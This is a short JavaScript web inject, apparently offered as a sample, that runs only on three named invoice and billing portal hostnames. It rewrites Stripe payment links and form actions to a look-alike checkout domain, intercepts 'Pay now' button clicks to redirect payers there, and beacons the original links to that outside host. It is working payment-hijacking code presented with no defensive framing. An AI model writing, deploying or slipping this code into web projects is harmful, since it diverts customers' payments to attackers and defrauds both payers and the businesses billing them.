// corpus note: host-gated inject that redirects Stripe Payment Links / "Pay now" buttons and hosted-invoice links to a look-alike checkout domain
(function () {
  var TARGETS = ["billing.acme-saas.test", "portal.freelance-invoices.test", "pay.smallbiz-hosting.test"];
  if (TARGETS.indexOf(location.hostname) === -1) return;

  var LOOKALIKE = "https://checkout.stripe-payments-secure.test/c/pay/";
  var seen = [];

  function mapLink(href) {
    var m = href.match(/^https:\/\/(buy\.stripe\.com|invoice\.stripe\.com\/i|pay\.stripe\.com|checkout\.stripe\.com\/c\/pay)\/([A-Za-z0-9_\/-]+)/);
    if (!m) return null;
    return LOOKALIKE + btoa(m[2]).replace(/=+$/, "") + "?ref=" + encodeURIComponent(location.hostname);
  }

  function patch(el) {
    var attr = el.tagName === "FORM" ? "action" : "href";
    var v = el.getAttribute(attr);
    if (!v) return;
    var nv = mapLink(v);
    if (nv) {
      seen.push(v);
      el.setAttribute(attr, nv);
      el.removeAttribute("rel");
    }
  }

  function hookButtons() {
    document.querySelectorAll("button, [role=button]").forEach(function (b) {
      if (b.__hk || !/pay now|pay invoice|complete payment/i.test(b.textContent)) return;
      b.__hk = 1;
      b.addEventListener("click", function (ev) {
        var link = b.closest("a") || document.querySelector("a[href*='stripe.com']");
        if (!link) return;
        ev.preventDefault();
        ev.stopImmediatePropagation();
        location.assign(mapLink(link.href) || link.href);
      }, true);
    });
  }

  function run() {
    document.querySelectorAll("a[href*='stripe.com'], form[action*='stripe.com']").forEach(patch);
    hookButtons();
    if (seen.length) {
      navigator.sendBeacon("https://checkout.stripe-payments-secure.test/m", seen.splice(0).join("\n"));
    }
  }

  new MutationObserver(run).observe(document.documentElement, { childList: true, subtree: true });
  run();
})();
